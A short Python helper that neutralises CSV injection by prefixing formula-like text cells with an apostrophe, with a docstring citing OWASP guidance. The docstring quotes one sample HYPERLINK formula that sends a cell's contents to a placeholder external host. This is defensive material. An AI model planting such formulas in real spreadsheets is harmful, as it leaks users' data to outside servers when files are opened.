"""Cells that spreadsheet programs must read as text, never as formulas (CSV injection).

Excel, LibreOffice Calc and WPS start a formula when a CSV field begins with `=`, `+`, `-` or
`@` (and some treat a leading tab or carriage return the same way), so a title like
`=HYPERLINK("http://x.example/?"&B2,"详情")` would run when the file is opened. Following
OWASP's CSV injection guidance, such a text field gets a leading `'`: the program shows it as
text (with the `'` visible), and a program that reads the file can strip it. Phone numbers
(`+86...`) start with `+`, so they pass through the same rule and stay text, never a number
that loses its `+` or turns into 8.61E+12. Numbers stay numbers: only text is changed."""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """The value as a CSV export writes it: text that a spreadsheet could read as a formula
    is prefixed with `'`; everything else is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
